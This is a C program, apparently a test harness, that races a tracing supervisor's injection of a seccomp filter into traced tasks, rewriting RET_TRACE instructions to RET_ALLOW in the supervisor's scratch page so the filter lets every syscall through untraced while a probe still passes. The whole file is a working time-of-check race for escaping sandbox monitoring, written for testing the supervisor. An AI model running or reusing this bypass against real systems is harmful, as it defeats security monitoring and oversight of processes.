/*
 * layer_patch DIR MODE [N]: a program that rewrites the filter layer the supervisor writes into its
 * memory for a task's injected seccomp(2) before that task's call copies it: every RET_TRACE with
 * data 0 (what sends the session's syscalls to the tracer) becomes RET_ALLOW, and the probe's two
 * RET_TRACE|tag stay, so the probe passes and the layer lets everything through.
 *
 * threads: N threads (default 8) beside the main thread spin-watch the page where the next
 *   one-page anonymous mapping will go (the supervisor's scratch page) and patch what shows there:
 *   a thread that already has its layer patches the layer of a sibling still waiting for its own.
 * stopped: the main process P1 is stopped (SIGSTOP) by a process P2 that shares its memory
 *   (clone(CLONE_VM), not a thread, so not in P1's group stop); once DIR/go exists, if a layer
 *   of its own landed (its Seccomp_filters grew: a session was created), P2 has P1 continued (by
 *   P3, a third such process) and patches P1's layer, with PATCHERS more such processes, while P1
 *   is given it at its next stop; natively P2 continues P1 itself.
 *
 * The tasks given a layer (every thread; P1) have 7 filters of their own of 4,096 ALLOW
 * instructions: each call the supervisor injects runs them first, which widens the window. The program
 * writes DIR/ready, waits for DIR/go, then every thread (threads) or P1 (stopped) calls
 * chdir(DIR): a line is appended to DIR/moved when it succeeds, to DIR/refused when refused
 * (EPERM), and one to DIR/patched per layer it rewrote.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <linux/filter.h>
#include <linux/seccomp.h>
#include <pthread.h>
#include <sched.h>
#include <setjmp.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#define PAGE 4096
#define RET_TRACE_0 0x7ff00000u
#define RET_ALLOW 0x7fff0000u
/* Processes beside P2 patching P1's layer in the stopped mode. */
#define PATCHERS 3

static const char *dir;
/* Where the scratch page may show: predicted at the start and, in the stopped mode, again after the create. */
static volatile uintptr_t predicted[2];
static volatile int predictions;
static volatile int go, started, patched, p2_done, cont_now, filtered;
static volatile pid_t p1;
static volatile int never;
/* Where a watcher goes back to when its read faults, and whether it is reading the page. */
struct watch {
    sigjmp_buf fault;
    volatile int watching;
};
/* A thread's own (pthreads have their own TLS). */
static __thread struct watch thread_watch;
/* The stopped mode's processes share P1's TLS: each has one of these, found by its stack. */
static char *stacks;
static struct watch process_watch[3 + PATCHERS];

static void note(const char *name) {
    char path[4096];
    snprintf(path, sizeof path, "%s/%s", dir, name);
    int fd = open(path, O_WRONLY | O_CREAT | O_APPEND, 0644);
    if (fd >= 0) {
        dprintf(fd, "x\n");
        close(fd);
    }
}

static int exists(const char *name) {
    char path[4096];
    snprintf(path, sizeof path, "%s/%s", dir, name);
    return access(path, F_OK) == 0;
}

static double now(void) {
    struct timespec t;
    clock_gettime(CLOCK_MONOTONIC, &t);
    return t.tv_sec + t.tv_nsec / 1e9;
}

/* The watch of the calling task: by its stack for a process of the stopped mode (1 MiB each). */
static struct watch *mine(void) {
    char here;
    if (stacks != NULL && &here >= stacks && &here < stacks + ((3 + PATCHERS) << 20)) {
        return &process_watch[(&here - stacks) >> 20];
    }
    return &thread_watch;
}

/* The watched page went away while it was read: back to watching. */
static void on_fault(int sig) {
    struct watch *w = mine();
    if (w->watching) {
        siglongjmp(w->fault, 1);
    }
    _exit(99);
}

/*
 * Watches the predicted page until *until is set (or for secs seconds when secs > 0): whenever it
 * is mapped, rewrites each RET_TRACE (data 0) of the program at +16 into RET_ALLOW, pass after
 * pass from the moment the page shows until it is unmapped. Whether it is mapped is asked with
 * mincore, not by reading it: under a tracer each fault would stop the watcher until the tracer,
 * busy injecting, serves it. The one fault when the page goes away jumps back here. Between
 * looks the watcher yields: spinning outright would starve the operator's `trace create`.
 */
static void patch(volatile int *until, double secs) {
    struct watch *w = mine();
    volatile int rewritten;
    double end = secs > 0 ? now() + secs : 0;
    unsigned char resident;
    while (!*until && (end == 0 || now() < end)) {
        rewritten = 0;
        uintptr_t page = predicted[0];
        if (mincore((void *)page, PAGE, &resident) != 0) {
            page = predicted[predictions - 1];
            if (mincore((void *)page, PAGE, &resident) != 0) {
                sched_yield();
                continue;
            }
        }
        if (sigsetjmp(w->fault, 0) == 0) {
            w->watching = 1;
            volatile uint32_t *words = (volatile uint32_t *)(page + 16);
            while (!*until && (end == 0 || now() < end)) {
                for (int i = 0; i < (PAGE - 16) / 8; i++) {
                    if ((words[2 * i] & 0xffff) == (BPF_RET | BPF_K) && words[2 * i + 1] == RET_TRACE_0) {
                        words[2 * i + 1] = RET_ALLOW;
                        rewritten = 1;
                    }
                }
            }
        }
        w->watching = 0;
        if (rewritten) {
            __sync_fetch_and_add(&patched, 1);
            note("patched");
        }
    }
}

/*
 * Filters of the task's own that allow everything, slowly but for mincore and sched_yield (the
 * watchers' calls, which must stay quick): every call the supervisor injects runs them first.
 */
static void slow_filters(void) {
    static struct sock_filter f[4096];
    f[0] = (struct sock_filter)BPF_STMT(BPF_LD | BPF_W | BPF_ABS, 0); /* seccomp_data.nr */
    f[1] = (struct sock_filter)BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, SYS_mincore, 1, 0);
    f[2] = (struct sock_filter)BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, SYS_sched_yield, 0, 1);
    f[3] = (struct sock_filter)BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW);
    for (int i = 4; i < 4095; i++) {
        f[i] = (struct sock_filter)BPF_STMT(BPF_LD | BPF_W | BPF_ABS, 0);
    }
    f[4095] = (struct sock_filter)BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW);
    struct sock_fprog p = {4096, f};
    if (prctl(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0) != 0) {
        perror("prctl");
        exit(3);
    }
    for (int i = 0; i < 7; i++) {
        if (syscall(SYS_seccomp, SECCOMP_SET_MODE_FILTER, 0, &p) != 0) {
            perror("seccomp");
            exit(3);
        }
    }
}

/* Predicts the supervisor's scratch page: the next one-page anonymous mapping goes where this one went. */
static void predict(void) {
    void *p = mmap(NULL, PAGE, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
    munmap(p, PAGE);
    predicted[predictions < 2 ? predictions++ : 1] = (uintptr_t)p;
}

static void try_chdir(void) {
    if (chdir(dir) == 0) {
        note("moved");
    } else if (errno == EPERM) {
        note("refused");
    } else {
        note("failed");
    }
}

static void *watcher(void *unused) {
    while (!started) {
    }
    patch(&go, 0);
    try_chdir();
    return NULL;
}

static void threads(int n) {
    pthread_t t[64];
    for (int i = 0; i < n; i++) {
        pthread_create(&t[i], NULL, watcher, NULL);
    }
    predict();
    started = 1;
    note("ready");
    while (!exists("go")) {
        usleep(5000);
    }
    go = 1;
    for (int i = 0; i < n; i++) {
        pthread_join(t[i], NULL);
    }
    try_chdir();
}

/* Seccomp_filters of /proc/PID/status, -1 if unreadable. */
static int filters_of(pid_t pid) {
    char path[64], buf[4096];
    snprintf(path, sizeof path, "/proc/%d/status", pid);
    int fd = open(path, O_RDONLY);
    if (fd < 0) {
        return -1;
    }
    int n = read(fd, buf, sizeof buf - 1);
    close(fd);
    if (n <= 0) {
        return -1;
    }
    buf[n] = 0;
    char *p = strstr(buf, "Seccomp_filters:");
    return p ? atoi(p + 16) : -1;
}

/* Whether P1 is stopped: state T (natively) or t (in its group stop under a tracer). */
static int stopped(pid_t pid) {
    char path[64], buf[512];
    snprintf(path, sizeof path, "/proc/%d/stat", pid);
    int fd = open(path, O_RDONLY);
    if (fd < 0) {
        return 0;
    }
    int n = read(fd, buf, sizeof buf - 1);
    close(fd);
    if (n <= 0) {
        return 0;
    }
    buf[n] = 0;
    char *s = strrchr(buf, ')');
    return s && (s[2] == 'T' || s[2] == 't');
}

/*
 * P3: sends P1 its SIGCONT when P2 asks, 20 ms later, so that P2 and the patchers already spin
 * on the page when P1 is given its layer.
 */
static int p3(void *unused) {
    while (!cont_now && !p2_done) {
        usleep(100);
    }
    if (cont_now) {
        usleep(20000);
        kill(p1, SIGCONT);
    }
    return 0;
}

/* P2: stops P1; once DIR/go exists, if a session's layer landed on it, wakes P1 and patches. */
static int p2(void *unused) {
    while (!filtered) {
    }
    kill(p1, SIGSTOP);
    while (!stopped(p1)) {
        usleep(1000);
    }
    int before = filters_of(getpid());
    note("ready");
    while (!exists("go")) {
        usleep(2000);
    }
    if (filters_of(getpid()) != before) {
        predict();    /* where the layout is now, too (the create may have changed it) */
        cont_now = 1; /* P3 sends the SIGCONT, the patchers start */
        patch(&never, 2.0);
    } else {
        kill(p1, SIGCONT); /* natively: no layer to patch */
    }
    p2_done = 1;
    return 0;
}

/* More processes sharing P1's memory, each patching too: one of them is on a CPU when the layer is written. */
static int patcher(void *unused) {
    while (!cont_now && !p2_done) {
        usleep(100);
    }
    if (cont_now) {
        patch(&never, 2.0);
    }
    return 0;
}

static void stopped_process(void) {
    p1 = getpid();
    stacks = mmap(NULL, (3 + PATCHERS) << 20, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
    predict();
    pid_t pids[2 + PATCHERS];
    pids[0] = clone(p3, stacks + (1 << 20), CLONE_VM | SIGCHLD, NULL);
    pids[1] = clone(p2, stacks + (2 << 20), CLONE_VM | SIGCHLD, NULL);
    for (int i = 0; i < PATCHERS; i++) {
        pids[2 + i] = clone(patcher, stacks + ((3 + i) << 20), CLONE_VM | SIGCHLD, NULL);
    }
    for (int i = 0; i < 2 + PATCHERS; i++) {
        if (pids[i] < 0) {
            perror("clone");
            exit(4);
        }
    }
    slow_filters();
    filtered = 1;
    while (!p2_done || !exists("go")) {
        usleep(1000);
    }
    try_chdir();
    for (int i = 0; i < 2 + PATCHERS; i++) {
        waitpid(pids[i], NULL, __WALL);
    }
}

int main(int argc, char **argv) {
    if (argc < 3) {
        fprintf(stderr, "usage: layer_patch DIR threads|stopped [N]\n");
        return 2;
    }
    dir = argv[1];
    struct sigaction sa = {0};
    sa.sa_handler = on_fault;
    sa.sa_flags = SA_NODEFER;
    sigaction(SIGSEGV, &sa, NULL);
    if (strcmp(argv[2], "threads") == 0) {
        slow_filters();
        int n = argc > 3 ? atoi(argv[3]) : 8;
        threads(n < 1 ? 1 : n > 64 ? 64 : n);
    } else if (strcmp(argv[2], "stopped") == 0) {
        stopped_process();
    } else {
        fprintf(stderr, "layer_patch: unknown mode %s\n", argv[2]);
        return 2;
    }
    printf("patched %d\n", patched);
    return 0;
}
